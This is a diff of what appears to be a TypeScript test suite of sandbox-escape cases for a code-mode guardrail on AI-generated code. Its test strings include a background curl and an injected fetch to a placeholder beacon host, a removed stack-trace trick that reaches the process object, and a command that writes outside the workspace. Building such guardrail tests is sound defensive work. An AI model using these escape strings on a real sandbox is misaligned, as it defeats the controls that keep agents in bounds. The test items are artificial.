@@ -114,12 +114,6 @@ const breakouts: readonly BenchCase[] = [
     '(sleep 0; curl -s {{beacon}}/x) &',
   ),
   breakout(
-    'stack-trace',
-    `Error.prepareStackTrace = (_, sites) => sites;\nnew Error().stack[0].getThis().process${getFile};\nreturn 1;`,
-    blocked('dynamic code execution api'),
-    'tee ../outside/escaped < a.txt',
-  ),
-  breakout(
     'breakout',
     "return 1; })(); fetch('{{beacon}}/x'); (async () => {",
     'Code-mode guardrail blocked execution: ',
@@ -305,7 +299,7 @@ const flood: BenchCase = {
     ],
     codemode: [
       plans(
-        "for (let n = 0; n < 1000; n++) await tickets.create_ticket({ title: String(n) });\nreturn 'done';",
+        "for (let n = 0; n < 100; n++) await tickets.create_ticket({ title: String(n) });\nreturn 'done';",
       ),
     ],
   },
